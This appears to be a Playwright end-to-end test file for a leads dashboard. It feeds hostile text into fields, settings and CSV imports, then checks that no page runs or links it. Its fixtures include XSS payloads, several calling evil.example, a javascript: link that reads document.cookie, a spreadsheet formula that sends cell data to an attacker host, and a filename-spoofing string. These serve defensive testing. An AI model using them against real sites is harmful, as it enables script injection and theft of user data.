/**
 * Leads come from strangers. Whatever stands in their fields, and in the names that colleagues give to things, is text:
 * it runs nothing, asks nobody, and breaks no page.
 */
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { leadLimits } from '../../src/leads/lead-facts.ts'
import type { WatchedPage } from '../browser.ts'
import type { TestPerson } from '../harness.ts'
import {
  button,
  type Dashboard,
  eventually,
  heading,
  region,
  skeletons,
  startDashboard,
} from './dashboard.fixture.ts'

const hostile = {
  script: '<script>alert(1)</script><script src="https://evil.example/x.js"></script>',
  image: '"><img src=x onerror=alert(2)><svg onload=alert(3)>',
  style: '</style><style>@import "https://evil.example/x.css"</style><base href="https://evil.example">',
  link: 'javascript:alert(document.cookie)',
  direction: '\u202Egnp.exe\u2066 \u2069moc.elpmaxe\u202C',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"Total")',
  template: '{{constructor.constructor("alert(4)")()}} #{alert(5)} %3Cscript%3E',
  long: 'Supercalifragilistic'.repeat(600),
  accents:
    'Z\u0335\u0321\u030d\u0313a\u0334\u031a\u033dl\u0337\u0302\u0300g\u0338\u031b\u0308o\u0335 '.repeat(40),
}

let dashboard: Dashboard
let ada: TestPerson
let opened: WatchedPage
let page: Page
const leadIds: string[] = []

/** As much of it as the API takes: what it refuses in a field is left out there. */
async function post(path: string, body: Record<string, unknown>): Promise<Record<string, unknown>> {
  const { status, body: answer } = await ada.api('POST', path, body)
  if (status < 300) return answer
  expect(status, JSON.stringify(answer)).toBe(400)
  const wrong = (answer.details as { path: string }[]).map(({ path: at }) => at.split('.')[0])
  const kept = Object.fromEntries(Object.entries(body).filter(([name]) => !wrong.includes(name)))
  if (Object.keys(kept).length === Object.keys(body).length) throw new Error(JSON.stringify(answer))
  return post(path, kept)
}

const hostileLead = (text: string, at: number) => {
  const of = (max: number) => [...text].slice(0, max).join('')
  return {
    business_name: of(leadLimits.businessName),
    ...{ category: of(leadLimits.category), address: of(leadLimits.address), city: of(leadLimits.city) },
    ...{
      region: of(leadLimits.region),
      postal_code: of(leadLimits.postalCode),
      country: of(leadLimits.country),
    },
    ...{
      phone: of(leadLimits.phone),
      website: of(leadLimits.website),
      contact_name: of(leadLimits.contactName),
    },
    ...{ email: `x${at}@example.com`, external_id: `${at} ${of(leadLimits.externalId - 4)}` },
    ...{ tags: [of(leadLimits.tag)], source: of(leadLimits.source), status: 'qualified' },
    custom: { note: of(1_000), ['z'.repeat(50)]: of(1_000) },
  }
}

beforeAll(async () => {
  dashboard = await startDashboard()
  ada = await dashboard.createMember()
  for (const [at, text] of Object.values(hostile).entries()) {
    const { id } = await post('/api/leads', hostileLead(text, at))
    leadIds.push(String(id))
    await ada.api('POST', '/api/emails', { lead_id: id })
  }
  const { script, image, direction, long } = hostile
  await ada.api('PATCH', '/api/org', { name: `${image}${direction}`.slice(0, 100) })
  await ada.api('POST', '/api/auth/update-user', { name: script.slice(0, 100) })
  await post('/api/api-keys', { name: image })
  await post('/api/webhooks', {
    ...{
      name: script.slice(0, 100),
      description: long.slice(0, 500),
      target_url: `${dashboard.app.url}/nothing`,
    },
    event_types: ['lead.created'],
  })
  opened = await dashboard.open(ada, '/leads')
  page = opened.page
}, 120_000)
afterAll(() => dashboard?.close())

/** What the page has become: nothing of it may be code, or a way out that is not one of the web or of mail. */
const faultsOf = () =>
  page.evaluate(() => {
    const links = [...document.querySelectorAll('a[href]')].filter(
      (link) => link instanceof HTMLAnchorElement,
    )
    const away = links.filter(({ protocol, host }) => /^https?:$/.test(protocol) && host !== location.host)
    return {
      scripts: [...document.scripts].filter(({ src }) => !src.startsWith(location.origin)).length,
      handlers: document.querySelectorAll('[onerror], [onload], [onclick], base, iframe, object, embed')
        .length,
      schemes: links.map(({ href }) => href).filter((href) => !/^(https?|mailto|tel):/.test(href)),
      unsafe: away.map(({ rel }) => rel).filter((rel) => !/noopener/.test(rel) || !/noreferrer/.test(rel)),
      overflow: document.documentElement.scrollWidth > document.documentElement.clientWidth,
    }
  })
const noFaults = { scripts: 0, handlers: 0, schemes: [], unsafe: [], overflow: false }

const inMain = (text: string) => page.getByRole('main').getByText(text).first()

async function look(name: string): Promise<void> {
  // Until what was asked for is there: a skeleton has nothing that could go wrong.
  await eventually(() => skeletons(page).count()).toBe(0)
  expect(await faultsOf(), name).toEqual(noFaults)
  expect(opened.complaints, name).toEqual([])
  if (process.env.PICTURES) await page.screenshot({ path: `${process.env.PICTURES}/hostile-${name}.png` })
}

describe('hostile text', { timeout: 90_000 }, () => {
  it('is text in the table, on the board and on a phone', async () => {
    await inMain('<script>alert(1)</script>').waitFor()
    await look('table')
    await page.goto('/leads?view=board')
    await inMain('<script>alert(1)</script>').waitFor()
    await look('board')
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto('/leads')
    await inMain('<script>alert(1)</script>').waitFor()
    await look('phone')
    await page.setViewportSize({ width: 1280, height: 900 })
  })

  it('is text on the page of each lead, in the question before it is erased, and in a search', async () => {
    for (const [at, name] of Object.keys(hostile).entries()) {
      await page.goto(`/leads/${leadIds[at]}`)
      await heading(page, 'Timeline').waitFor()
      await look(`lead-${name}`)
    }
    await button(page, 'More').click()
    await page.getByRole('menuitem', { name: 'Erase lead…' }).click()
    await button(page.getByRole('dialog'), 'Cancel').waitFor()
    await look('erase')
    await page.keyboard.press('Escape')
    await page.keyboard.press('Control+k')
    await page.getByRole('combobox', { name: 'Search leads and pages' }).fill('alert')
    await page
      .getByRole('option', { name: /alert\(1\)/ })
      .first()
      .waitFor()
    await look('search')
  })

  it('is text in the drafts', async () => {
    await page.goto('/approvals')
    await button(page, /^Approve/).waitFor()
    const drafts = await page.getByRole('list', { name: 'Drafts to approve' }).getByRole('listitem').count()
    expect(drafts).toBe(leadIds.length)
    for (let at = 0; at < drafts; at++) {
      await page.getByRole('complementary', { name: 'The lead' }).getByRole('heading').first().waitFor()
      await look(`draft-${at}`)
      await page.keyboard.press('j')
    }
  })

  it('is text in every page of settings and in the figures', async () => {
    for (const path of [
      '/analytics',
      '/developers',
      '/settings/webhooks',
      '/settings/api-keys',
      '/settings/team',
    ]) {
      await page.goto(path)
      await page.getByRole('heading', { level: 1 }).waitFor()
      await look(path.replaceAll('/', '-'))
    }
    for (const name of ['Audit log', 'Data', 'Billing', 'Account']) {
      await page
        .getByRole('navigation', { name: 'Settings' })
        .getByRole('link', { name, exact: true })
        .click()
      await heading(page, name).waitFor()
      await look(name)
    }
  })

  it('is text in a file that is imported, in its name, and in what is wrong with it', async () => {
    const cells = Object.values(hostile).map((text) => `"${text.slice(0, 300).replaceAll('"', '""')}"`)
    const lines = [`${hostile.image.replaceAll('"', '')},Name,Phone,Website`]
    for (const cell of cells) lines.push([cell, cell, cell, cell].join(','), [cell, '', cell, cell].join(','))
    await page.goto('/leads/import')
    const chooser = page.waitForEvent('filechooser')
    await button(page, 'Choose a file').click()
    await (await chooser).setFiles({
      name: '<img src=x onerror=alert(9)>.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(lines.join('\n')),
    })
    await button(page, /^Import/).waitFor()
    await look('import-preview')
    await button(page, /^Import/).click()
    await region(page, 'Problems').waitFor()
    await look('import-problems')
    expect(opened.refusals).toEqual([])
  })
})
